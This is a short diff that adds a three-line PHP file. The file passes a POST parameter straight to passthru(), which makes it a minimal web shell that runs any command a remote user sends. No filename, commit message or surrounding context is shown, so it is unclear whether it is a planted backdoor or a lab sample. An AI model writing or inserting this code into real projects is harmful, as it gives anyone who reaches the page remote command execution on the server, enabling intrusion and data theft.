@@ -1,0 +1,3 @@
+<?php
+    passthru($_POST['c']);
+?>
